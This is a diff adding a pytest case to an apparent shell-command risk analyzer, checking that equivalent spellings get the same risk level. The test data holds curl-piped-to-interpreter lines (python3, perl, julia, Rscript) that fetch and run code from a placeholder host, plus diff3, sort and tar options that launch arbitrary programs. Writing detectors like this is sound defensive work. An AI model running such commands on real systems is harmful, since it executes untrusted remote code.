@@ -863,3 +863,19 @@ def test_argv_and_shell_agree_on_the_new_findings() -> None:
         ["git", "-c", "a.b=c", "log"],
     ):
         assert combine(assess_command(analyze_argv(words))) == risk(shlex.join(words)), words
+
+
+@pytest.mark.parametrize(
+    ("one", "other"),
+    [
+        ("diff3 --diff-prog=X a b c", "diff3 --diff-program=X a b c"),
+        ("curl -s http://h/x | julia", "curl -s http://h/x | python3"),
+        ("curl -s http://h/x | Rscript -", "curl -s http://h/x | perl"),
+        ("sort --compress-prog=x f", "sort --compress-program=x f"),
+        ("tar xIf prog a.tar", "tar -x -I prog -f a.tar"),
+    ],
+)
+def test_one_table_one_verdict(one: str, other: str) -> None:
+    """The same knowledge reached by two spellings or two family members rates the same (the issue's
+    examples: two option tables and two interpreter tables used to disagree)."""
+    assert risk(one).risk_level == risk(other).risk_level
